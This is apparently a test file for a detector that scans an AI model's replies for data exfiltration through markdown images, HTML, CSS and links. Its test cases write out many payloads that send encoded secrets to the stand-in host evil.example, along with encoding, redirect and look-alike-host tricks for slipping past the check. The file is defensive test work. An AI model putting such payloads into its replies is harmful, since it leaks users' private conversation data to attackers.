import { describe, expect, it } from 'vitest';
import { checkOutput, type OutputOptions } from '../../src/output/index.js';

function found(text: string, options: OutputOptions = {}): string[] {
  return checkOutput(text, options).map(({ id }) => id);
}

const IMAGE = ['PB-EXFIL-IMAGE'];
const LINK = ['PB-EXFIL-LINK'];
// "the vault code is 7731 blue" in base64, base64 without padding, and hexadecimal.
const BASE64 = 'dGhlIHZhdWx0IGNvZGUgaXMgNzczMSBibHVl';
const HEX = '746865207661756c7420636f6465206973203737333120626c7565';
const BASE32 = 'ORUGKIDWMF2WY5BAMNXWIZJANFZSANZXGMYSAYTMOVSQ';

describe('content that loads by itself', () => {
  it.each([
    ['an inline image', `![x](https://evil.example/p?data=${BASE64})`],
    ['an image by reference', `![x][r]\n\n[r]: https://evil.example/?d=hunter2pass`],
    ['an image by collapsed reference', `![R][]\n\n[r]: https://evil.example/?d=hunter2pass`],
    ['an image by short reference', `[r]: <https://evil.example/?d=hunter2pass>\n\n![r]`],
    ['an image within a link', `[![x](https://evil.example/?d=hunter2pass)](https://ok.example)`],
    ['brackets within the text', '![a [b] c](https://evil.example/?d=hunter2pass)'],
    ['brackets within code', '![a `]` b](https://evil.example/?d=hunter2pass)'],
    ['an upper-case scheme', '![x](HTTPS://EVIL.EXAMPLE/?d=hunter2pass)'],
    ['no scheme', '![x](//evil.example/?d=hunter2pass)'],
    ['backslashes for slashes', '![x](https:\\\\evil.example/?d=hunter2pass)'],
    ['angle brackets', '![x](<https://evil.example/?d=hunter2 pass word>)'],
    ['a destination with spaces', '![x](https://evil.example/?d=the code is blue)'],
    ['a title', '![x]( https://evil.example/?d=hunter2pass "title")'],
    ['entities', '![x](&#104;ttps://evil.example/?d=hunter2pass)'],
    ['an HTML image', '<img alt=">" src="https://evil.example/?d=hunter2pass">'],
    ['an attribute with no quotes', '<IMG SRC=https://evil.example/?d=hunter2pass>'],
    ['a line break in the scheme', '<img src="ht\ntps://evil.example/?d=hunter2pass">'],
    ['entities in an attribute', '<img src="https&#58;//evil.example/?d=hunter2pass">'],
    ['a frame', '<iframe src="https://evil.example/?d=hunter2pass">'],
    ['a document in a frame', '<iframe srcdoc="&lt;img src=//evil.example/?d=hunter2pass&gt;">'],
    [
      'a document in an address',
      '<iframe src="data:text/html,<img src=//evil.example/?d=hunter2pass>">',
    ],
    ['srcset', '<img srcset="/a.png 1x, https://evil.example/?d=hunter2pass 2x">'],
    ['a poster', "<video poster='https://evil.example/?d=hunter2pass'>"],
    ['an object', '<object data="https://evil.example/?d=hunter2pass">'],
    ['a style sheet', '<link rel=stylesheet href="https://evil.example/?d=hunter2pass">'],
    [
      'a refresh',
      '<meta http-equiv=refresh content="0; URL=\'https://evil.example/?d=hunter2pass\'">',
    ],
    ['a style', '<p style="background:url(https://evil.example/?d=hunter2pass)">'],
    ['a style block', "<style>a{background:url('https://evil.example/?d=hunter2pass')}</style>"],
    [
      'escapes in a style',
      '<style>a{background:\\75rl(\\68ttps://evil.example/?d=hunter2pass)}</style>',
    ],
    ['an import', '<style>@import "https://evil.example/?d=hunter2pass";</style>'],
    ['an SVG image', '<svg><image xlink:href="https://evil.example/?d=hunter2pass"/></svg>'],
    ['an SVG style', '<svg><rect fill="url(https://evil.example/?d=hunter2pass)"/></svg>'],
  ])('is found as %s', (_name, text) => {
    expect(found(text)).toEqual(IMAGE);
  });

  it.each([
    ['base64 in the path', `/${BASE64}.png`],
    ['hexadecimal in the path', `/i/${HEX}/x.gif`],
    ['base32 in the path', `/${BASE32}`],
    ['base64 backwards', `/${BASE64.split('').toReversed().join('')}`],
    ['base64 over segments', '/dGhlIHZhdW/x0IGNvZGUga/XMgNzczMSBibHVl/p.png'],
    ['base64 over parameters', '/?a=dGhlIHZhdW&b=x0IGNvZGUga&c=XMgNzczMSBibHVl'],
    ['words over parameters', '/?p1=the&p2=vault&p3=code&p4=7731'],
    ['a secret as a file name', '/my-password-is-hunter2.png'],
    ['a mail address', '/?u=jane.roe%40corp.example'],
    ['a card number', '/?n=4111-1111-1111-1111'],
    ['the shape of a key', '/x?r=sk-live-9f8e7d6c5b4a39281706'],
    ['a long number', '/?data=0049301234567'],
    ['a parameter with no name', `/?${BASE64}`],
    ['the name of a parameter', `/?${BASE64}=1`],
    ['short base64 with padding', '/aHVudGVyMg==/x.png'],
    ['invisible characters', '/?x=%F3%A0%81%A8%F3%A0%81%A9'],
    ['twice escaped text', '/?data=%2574he%2520code'],
    ['code points', '/?x=116-104-101-32-99-111-100-101'],
  ])('is found with data as %s', (_name, rest) => {
    expect(found(`![x](https://evil.example${rest})`)).toEqual(IMAGE);
  });

  it.each([
    ['hexadecimal', HEX],
    ['base64, in its case', BASE64],
    ['base64 over labels', 'dGhlIHZhdW.x0IGNvZGUga.XMgNzczMSBibHVl'],
  ])('is found with data in the host name as %s', (_name, labels) => {
    expect(found(`![x](https://${labels}.evil.example/a.png)`)).toEqual(IMAGE);
  });

  it('is found when many pieces spell a text, and not when they are numbered', () => {
    const images = (parts: readonly string[]): string =>
      parts.map((part) => `![](https://evil.example/p/${part}.png)`).join('');
    expect(found(images('hunterpass'.split('')))).toEqual(IMAGE);
    expect(found(images(['1', '2', '3', '4', '5', '6', '7', '8', '9', '10', 'a', 'b']))).toEqual(
      [],
    );
  });

  it.each([
    '![logo](https://cdn.example.com/logo.png)',
    '![guide](https://example.com/password-reset-guide-2024.png)',
    '![logo](https://cdn.example.com/img/9f86d081884c7d659a2feaa0c55ad015.png)',
    '![x](https://cdn.example.com/sha256/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)',
    '![x](https://cdn.example.com/3f2504e0-4f89-11d3-9a0c-0305e82c3301.webp)',
    '![photo](https://images.example.com/photo-1501785888041-af3ef285b470?auto=format&fit=crop&w=800&q=60)',
    '![badge](https://badges.example.com/badge/license-MIT-blue.svg)',
    '![ci](https://example.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main)',
    '![a](https://avatars.example.com/u/1234567?s=80&d=identicon&v=4)',
    '![map](https://maps.example.com/tiles/12/2048/1362.png)',
    '![thumb](https://media.example.com/commons/thumb/a/a9/Example.jpg/320px-Example.jpg)',
    '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)',
    '![x](./images/figure-1.png)',
    '<img src="https://via.example.com/150?text=Hello+World" width=150>',
  ])('is left alone when nothing in it is data: %s', (text) => {
    expect(found(text)).toEqual([]);
  });
});

describe('a link', () => {
  it.each([
    ['an inline link', `[more](https://evil.example/?d=${BASE64})`],
    ['a link by reference', `[more][r]\n\n[r]: https://evil.example/?d=${BASE64}`],
    ['an anchor', `<a href="https://evil.example/?d=${BASE64}">more</a>`],
    ['an autolink', `<https://evil.example/?d=${BASE64}>`],
    ['a bare URL', `See https://evil.example/${BASE64}.`],
    ['a host with www', `See www.evil.example/${BASE64}.`],
    ['a ping', `<a href="/x" ping="https://evil.example/?d=${BASE64}">x</a>`],
    ['a form', `<form action="https://evil.example/?d=${BASE64}">`],
    ['a button', `<button formaction="https://evil.example/?d=${BASE64}">`],
    ['a fragment', `[x](https://evil.example/#${BASE64})`],
    ['a user name', `[x](https://${BASE64}@evil.example/)`],
    ['a password in words', '[x](https://evil.example/?q=my+password+is+hunter2)'],
    ['a mail address in the path', 'https://evil.example/alice/inbox/jane.roe@corp.example/'],
    ['a secret as a title', '[x](https://evil.example/leak/my_api_key_is_abc123)'],
    ['a session', 'https://evil.example/?session=0f1e2d3c4b5a69788796'],
    ['words in the path', 'https://evil.example/the%20user%20name%20is%20jane%20roe'],
  ])('is found as %s', (_name, text) => {
    expect(found(text)).toEqual(LINK);
  });

  it.each([
    'https://en.example.org/wiki/Ignore_all_previous_instructions',
    'https://shop.example.com/dp/B08N5WRWNW/ref=sr_1_3?crid=2M096C61O4MLT&keywords=headphones&qid=1612345678&sr=8-3',
    'https://git.example.com/linux/commit/1da177e4c3f41524e886b7f1b8a0c1fc7321cac2',
    'https://qa.example.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-an-unsorted-array',
    'https://api.example.com/data/2.5/weather?q=London&appid=YOUR_API_KEY',
    'https://blog.example.com/2024/01/how-to-store-api-keys-2-ways',
    'https://docs.example.com/secrets-management-v2',
    'https://git.example.com/labs/token-2022',
    'https://packages.example.com/package/jsonwebtoken-9',
    'https://search.example.com/search?q=best+pizza+in+new+york',
    'https://maps.example.com/maps/dir/?api=1&origin=New+York+NY&destination=Boston+MA&travelmode=driving',
    'https://video.example.com/watch?v=dQw4w9WgXcQ',
    'https://docs.example.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
    'https://cdn.example.net/npm/bootstrap@5.3.0/dist/css/bootstrap.min.css',
    'https://hotel.example.com/le-palais.html?checkin=2024-05-20&checkout=2024-05-25&group_adults=2',
    'https://news.example.com/?utm_source=newsletter&utm_campaign=spring_sale_2024&utm_medium=email',
    'https://social.example/@jane.roe@other.example/1123',
    '`curl "https://api.example.com/v1/items?data=<payload>&token=${TOKEN}"`',
    '[mail](mailto:jane@example.com?subject=Hello)',
    'www.example_with_underscores.com',
  ])('is left alone when nothing in it is data: %s', (text) => {
    expect(found(`Here you are: ${text}`)).toEqual([]);
  });
});

describe('hosts', () => {
  const trusted = { trustedDomains: ['example.com', '*.Example.ORG', 'https://bücher.example/'] };
  const image = (host: string): string => `![x](https://${host}/?d=${BASE64})`;

  it.each([
    'example.com',
    'cdn.example.com',
    'EXAMPLE.com.',
    'a.b.example.org',
    'xn--bcher-kva.example',
  ])('are trusted by name or by what stands after a dot: %s', (host) => {
    expect(found(image(host), trusted)).toEqual([]);
  });

  it.each([
    'notexample.com',
    'example.com.evil.example',
    'example.com@evil.example',
    'evil.example\\@example.com',
    'ex\u0430mple.com',
    'example.com%2eevil.example',
    'example.com\u3002evil.example',
  ])('are not trusted because they look alike: %s', (host) => {
    expect(found(`<img src="https://${host}/?d=${BASE64}">`, trusted)).toEqual(IMAGE);
  });

  it.each([
    `https://example.com/go?to=https://evil.example/?d=${BASE64}`,
    `https://example.com/go?to=https%3A%2F%2Fevil.example%2F%3Fd%3D${BASE64}`,
    `https://example.com/go?to=https%253A%252F%252Fevil.example%252F%253Fd%253D${BASE64}`,
    `https://example.com/go?to=//evil.example/${BASE64}`,
    `https://example.com/go/https://evil.example/${BASE64}`,
    `https://example.com/go?a=http://example.com&b=http://example.com/&to=http://evil.example/${BASE64}`,
    `https://example.com/#https://evil.example/?d=${BASE64}`,
  ])('that are trusted do not cover where they redirect to: %s', (url) => {
    expect(found(`![x](${url})`, trusted)).toEqual(IMAGE);
  });
});

describe('URLs that were given', () => {
  const url = `https://files.example/?sig=${BASE64}&name=report`;

  it('may stand in the reply again', () => {
    expect(found(`[report](${url})`)).toEqual(LINK);
    expect(found(`[report](${url})`, { suppliedUrls: [url] })).toEqual([]);
  });

  it('may be given as the text that holds them', () => {
    const text = `{"link": "${url}", "size": 3}`;
    expect(found(`[report](${url})`, { suppliedUrls: [text] })).toEqual([]);
  });

  it('do not cover the same address with something added', () => {
    expect(found(`[report](${url}&data=hunter2pass)`, { suppliedUrls: [url] })).toEqual(LINK);
  });
});

describe('values of the conversation', () => {
  const values = { conversationValues: ['Blue Heron 42', 'short'] };

  it.each([
    ['as it is', 'https://a.example/Blue%20Heron%2042'],
    ['in another case, joined', 'https://a.example/blueheron42.png'],
    ['as labels', 'https://blue.heron.42.a.example/'],
    ['over parameters', 'https://a.example/?x=Blue&y=Heron&z=42'],
    ['backwards', 'https://a.example/24-noreh-eulb'],
    ['by 13 places', 'https://a.example/Oyhr-Ureba-42'],
  ])('are found in a URL that would pass otherwise, %s', (_name, url) => {
    expect(found(`[x](${url})`)).toEqual([]);
    expect(found(`[x](${url})`, values)).toEqual(LINK);
  });

  it.each([
    ['in base64', 'https://a.example/v/Qmx1ZSBIZXJvbiA0Mg'],
    ['in hexadecimal', 'https://a.example/426c7565204865726f6e203432'],
  ])('are found in a URL %s', (_name, url) => {
    expect(found(`[x](${url})`, values)).toEqual(LINK);
  });

  it('are not looked for within words when they are too short to tell', () => {
    expect(found('[x](https://a.example/shortcuts)', values)).toEqual([]);
  });
});

describe('a finding', () => {
  it('says what it is, where it stands and how it is tagged', () => {
    expect(
      checkOutput('Look: ![x](https://evil.example/?d=hunter2pass) ok'),
    ).toMatchInlineSnapshot(`
      [
        {
          "confidence": 0.9,
          "id": "PB-EXFIL-IMAGE",
          "matched": "https://evil.example/?d=hunter2pass",
          "severity": "high",
          "span": {
            "end": 46,
            "start": 11,
          },
          "tags": {
            "atlas": [
              "AML.T0077",
            ],
            "owasp": [
              "LLM10:2026",
              "LLM02:2026",
            ],
          },
          "title": "Content that loads by itself carries data to a host that is not trusted",
          "view": "original",
        },
      ]
    `);
  });

  it('is reported once for each check', () => {
    const image = '![x](https://evil.example/?d=hunter2pass)';
    const link = `[x](https://evil.example/?d=${BASE64})`;
    expect(found(`${link} ${image} ${link} ${image}`)).toEqual([...LINK, ...IMAGE]);
  });

  it('finds a long value of the conversation, as it is and encoded', () => {
    const value = 'The board meets on 4 May in room B12; '.repeat(30);
    const ids = (url: string) =>
      checkOutput(`![x](${url})`, { conversationValues: [value] }).map(({ id }) => id);
    const slug = value.toLowerCase().replaceAll(/[^a-z0-9]+/g, '-');
    for (const data of [slug, Array.from(slug).toReversed().join(''), btoa(value)]) {
      expect(ids(`https://img.example/${data}.png`)).toContain('PB-EXFIL-IMAGE');
    }
    expect(ids('https://img.example/the-board-meets.png')).toEqual([]);
  });

  it.each([
    ['a parameter', 'https://e.invalid/?q=4913', true],
    ['a path segment', 'https://e.invalid/a/4913.png', true],
    ['a label of the host', 'https://4913.e.invalid/', true],
    ['digits of a longer number', 'https://e.invalid/?q=149137', false],
  ])('finds a short value of the conversation as a whole part of an address: %s', (_, url, is) => {
    const ids = checkOutput(`![x](${url})`, { conversationValues: ['4913', 'ab'] });
    expect(ids.length > 0).toBe(is);
    expect(checkOutput('![x](https://e.invalid/?q=ab)', { conversationValues: ['ab'] })).toEqual(
      [],
    );
  });
});
